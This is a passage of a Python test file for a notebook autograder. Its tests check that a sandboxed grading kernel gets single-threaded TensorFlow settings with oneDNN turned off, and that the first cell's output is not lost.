    assert run.returncode == 0, run.stderr[-2000:]
    assert run.stdout.split() == [str(venv), "ok"]


def test_a_grading_kernel_runs_tensorflow_with_one_thread_and_without_onednn(tmp_path: Path) -> None:
    """Fast mode's TensorFlow settings reach a kernel in the sandbox (its environment is an allow-list).

    The job gets a two-core share; its kernel still gets one thread, and oneDNN off (benchmarks/README.md).
    """
    work = tmp_path / "work"
    work.mkdir()
    probe = ("import os, tensorflow; from tensorflow.python.util import _pywrap_util_port as port; "
             "print(os.environ['TF_NUM_INTRAOP_THREADS'], os.environ['OMP_NUM_THREADS'], port.IsMklEnabled())")
    launcher = ("import os, sys; from pathlib import Path; "
                "from autograder.grader.autograde_job import job_environment; "
                "from autograder.grader.limits import DEFAULT; "
                f"job_environment(Path({str(work)!r}), 2, DEFAULT, True, None); os.chdir({str(work)!r}); "
                "os.execv(sys.executable, [sys.executable, '-m', 'autograder.grader.sandbox', '--', "
                f"sys.executable, '-c', {probe!r}])")
    env = {key: value for key, value in os.environ.items() if not key.startswith(("TF_", "OMP_"))}
    run = subprocess.run([sys.executable, "-c", launcher], capture_output=True, text=True, timeout=300, env=env)
    assert run.returncode == 0, run.stderr[-3000:]
    assert run.stdout.split() == ["1", "1", "False"], run.stdout


def test_a_sandboxed_kernel_is_ready_without_losing_its_first_output(tmp_path: Path) -> None:
    """The sandbox's kernel client does not wait for IOPub to go quiet (0.2 s each time), and still misses nothing:
    nbclient sees the first cell's output, and the kernel's answers to the client's own kernel_info are ignored."""
    from nbclient import NotebookClient

    from autograder.grader.kernel import PromptKernelClient, SandboxedKernelManager

    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("print('first', flush=True)"),
                                               nbformat.v4.new_code_cell("print('second')")])
    client = NotebookClient(notebook, timeout=120, kernel_name="python3", kernel_manager_class=SandboxedKernelManager,
                            resources={"metadata": {"path": str(tmp_path)}})
    with client.setup_kernel():
        assert isinstance(client.kc, PromptKernelClient)
        for index, cell in enumerate(notebook.cells):
            client.execute_cell(cell, index)
    assert [[output.get("text") for output in cell.outputs] for cell in notebook.cells] == [["first\n"], ["second\n"]]
